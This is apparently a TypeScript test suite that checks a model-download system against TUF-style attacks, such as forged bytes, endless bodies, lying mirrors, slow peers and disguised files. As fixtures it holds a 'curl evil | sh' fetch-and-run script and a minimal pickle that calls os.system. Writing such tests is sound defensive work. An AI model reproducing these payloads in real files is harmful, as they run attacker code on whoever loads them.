/** Attacks of the TUF specification on how bytes come: through the download that ships, from servers that attack. 20-access §7. */
import { randomBytes } from 'node:crypto';
import { afterEach, describe, expect, test } from 'vitest';
import { MiB } from '../../core/index.ts';
import { planFit } from '../../deploy/index.ts';
import { inspectModelFile } from '../../formats/index.ts';
import { FrameDecoder, type ModelManifest, parseManifest, parseNodeCapabilities } from '../../protocol/index.ts';
import * as hostile from '../../testkit/hostile-http-server.ts';
import { MemoryPieceSink } from '../../testkit/memory-piece-sink.ts';
import { makeTestMesh } from '../../testkit/mesh-members.ts';
import { download, HttpPieceSource, type TransferLimits, UrlPieceSource } from '../../transfer/index.ts';
import { fileSet, oneFile, PullBench, TestPeer } from '../pull/pulling.fixture.ts';
import type { Transfer } from '../pull/transfer.ts';

const blob = hostile.testBlob(randomBytes(3 * MiB + 777));
const FAST: Partial<TransferLimits> = { stallMs: 300, tickMs: 20, backOffMs: 5, maxFailuresInRow: 2, outageMs: 100 };
const servers: hostile.HostileHttpServer[] = [];
const never = (): AbortSignal => new AbortController().signal;

function manifestWith(more: object): ModelManifest {
  const facts = { model_id: 'm', name: 'm', version: '1', model_type: 'custom', format: 'onnx', size_bytes: 1 };
  return parseManifest({ ...facts, sha256: 'ab'.repeat(32), ...more });
}

const NODE = parseNodeCapabilities({
  ...{ type: 'node_capabilities', node_id: makeTestMesh('fit').member('a').nodeId, node_name: 'a', role: 'edge' },
  hardware: { memory_mb: 1000, cpu_cores: 2, architecture: 'x86_64', disk_free_mb: 1000 },
  software: { python_version: '3.12', installed_packages: [] },
});

afterEach(async () => {
  for (const server of servers.splice(0)) await server.close();
});

async function serve(behaviour: hostile.Behaviour = hostile.honest): Promise<hostile.HostileHttpServer> {
  const server = await hostile.startHostileHttpServer(blob, { behaviour });
  servers.push(server);
  return server;
}

function peerAt(server: hostile.HostileHttpServer, id: string): HttpPieceSource {
  return new HttpPieceSource({ id, baseUrl: server.url, blob: blob.blob, lanes: 1 });
}

async function getFrom(sources: readonly (HttpPieceSource | UrlPieceSource)[]) {
  const sink = new MemoryPieceSink(blob.content.length);
  const { sources: outcomes } = await download({ blob: blob.blob, sink, sources, limits: FAST }, never());
  expect(sink.bytes.equals(blob.content)).toBe(true);
  return new Map(outcomes.map((outcome) => [outcome.id, outcome]));
}

async function over(transfer: Transfer): Promise<{ state: string; code: string | undefined }> {
  await transfer.untilOver();
  const { state, error } = transfer.snapshot();
  return { state, code: error?.code };
}

describe('arbitrary installation', () => {
  test('bytes that are not those of the signed digest never become a file, whoever alone is left to send them', async () => {
    const liar = await serve(hostile.wrongBytes);
    const sink = new MemoryPieceSink(blob.content.length);
    const attempt = download({ blob: blob.blob, sink, sources: [peerAt(liar, 'liar')], limits: FAST }, never());
    await expect(attempt).rejects.toMatchObject({ code: 'bad_piece' });
    expect(sink.committed.length).toBeLessThan(Math.ceil(blob.content.length / MiB));
  });

  test('a whole model of other content under the wanted digest is not installed', async () => {
    const bench = new PullBench();
    const wanted = oneFile('org/model', Buffer.from('the model'));
    const other = oneFile('org/model', Buffer.from('the other'));
    const peer = bench.swarm.add(new TestPeer('peer', wanted));
    const real = peer.sourceOf.bind(peer);
    peer.sourceOf = (asked) => {
      const source = real(asked);
      return source === undefined
        ? undefined
        : {
            ...source,
            openLane:
              new TestPeer('x', other).sourceOf({ ...asked, sha256: other.entry.sha256 })?.openLane ?? source.openLane,
          };
    };
    const { state, code } = await over(bench.service().start({ target: wanted }));
    expect([state, code, bench.models.installed]).toEqual(['Failed', 'bad_piece', []]);
  });
});

describe('endless data', () => {
  test.each([
    ['an endless body', hostile.endlessBody],
    ['an endless head', hostile.endlessHead],
    ['a body longer than the signed size', hostile.longBody],
  ])('%s is cut off, and the model comes from another', async (_what, behaviour) => {
    const outcomes = await getFrom([peerAt(await serve(behaviour), 'endless'), peerAt(await serve(), 'honest')]);
    expect(outcomes.get('honest')?.bytes).toBe(blob.content.length);
    expect(outcomes.get('endless')?.failures).not.toEqual([]);
  });

  test('a message that claims four gigabytes is refused before a byte of it is kept', () => {
    const decoder = new FrameDecoder();
    expect(() => [...decoder.push(Buffer.from([0xff, 0xff, 0xff, 0xff]))]).toThrow(
      expect.objectContaining({ code: 'too_large' }),
    );
  });

  test('the size of the signed entry decides what has to fit on the disk, before anything is fetched', async () => {
    const bench = new PullBench();
    const model = oneFile('org/model', Buffer.from('small'), { size_bytes: 2 ** 40 });
    const peer = bench.swarm.add(new TestPeer('peer', model));
    bench.freeBytes = 2 ** 30;
    expect(await over(bench.service().start({ target: model }))).toEqual({ state: 'Failed', code: 'no_space' });
    expect(peer.reads).toBe(0);
  });
});

describe('extraneous dependencies', () => {
  test('a file list that names more than the signed entry counts fetches nothing of it', async () => {
    const bench = new PullBench();
    const files = { 'model.gguf': Buffer.from('model'), 'install.sh': Buffer.from('curl evil | sh') };
    const model = fileSet('org/model', files, { file_count: 1, size_bytes: 5 });
    const peer = bench.swarm.add(new TestPeer('peer', model));
    const { state, code } = await over(bench.service().start({ target: model }));
    expect([state, code, peer.reads, bench.models.installed]).toEqual(['Failed', 'bad_file_list', 1, []]);
  });

  test('Python packages that a manifest asks for make a node unfit; nothing installs them', () => {
    const { fit, reasons } = planFit(manifestWith({ python_requirements: ['evil-package>=1'] }), NODE);
    expect(fit).toBe('no');
    expect(reasons.map(({ message }) => message).join()).toContain('evil-package');
  });
});

describe('malicious mirrors', () => {
  test.each([
    ['other bytes', hostile.wrongBytes],
    ['the wrong range', hostile.otherRange],
    ['an endless body', hostile.endlessBody],
    ['a page instead of the file', hostile.answering(404)],
  ])('a mirror that sends %s is dropped, and costs the model nothing', async (_what, behaviour) => {
    const mirror = await serve(behaviour);
    const source = new UrlPieceSource({
      id: 'mirror',
      url: `${mirror.url}/v1/blobs/${blob.blob.sha256}`,
      blob: blob.blob,
      isPublic: () => true,
    });
    const outcomes = await getFrom([source, peerAt(await serve(), 'honest')]);
    expect(outcomes.get('mirror')?.bytes ?? 0).toBe(0);
  });

  test('no mirror decides what the pieces are: their list comes from a peer and must have the signed root', async () => {
    const liar = await serve();
    liar.lieAboutPieces(randomBytes(blob.pieces.length));
    const outcomes = await getFrom([peerAt(liar, 'liar'), peerAt(await serve(), 'honest')]);
    expect(outcomes.get('honest')?.bytes).toBeGreaterThan(0);
  });
});

describe('slow retrieval', () => {
  test.each([
    ['nothing after the head', hostile.silentBody],
    ['nothing at all', hostile.nothing],
    ['fifty bytes a second', hostile.slowBody(50)],
  ])('a peer that sends %s loses its pieces to another, and holds nobody up', async (_what, behaviour) => {
    const outcomes = await getFrom([peerAt(await serve(behaviour), 'slow'), peerAt(await serve(), 'honest')]);
    expect(outcomes.get('honest')?.bytes).toBe(blob.content.length);
  });
});

describe('wrong software', () => {
  test('what a file is, its bytes say: a pickle that is called a safe format is a pickle', async () => {
    // Protocol 4, os.system called with a word, stop.
    const pickle = Buffer.from("\x80\x04cos\nsystem\n(S'true'\ntR.", 'latin1');
    const source = {
      sizeBytes: pickle.length,
      read: async (buffer: Buffer, position: number) => pickle.copy(buffer, 0, position),
    };
    for (const name of ['model.gguf', 'model.safetensors', 'model.onnx'])
      expect((await inspectModelFile(source as never, name)).isSafe).toBe(false);
  });

  test('a model for other machines is no model for this one', () => {
    const { fit, reasons } = planFit(manifestWith({ needs: { architectures: ['aarch64'] } }), NODE);
    expect([fit, reasons.map(({ code }) => code)]).toEqual(['no', expect.arrayContaining(['architecture'])]);
  });
});
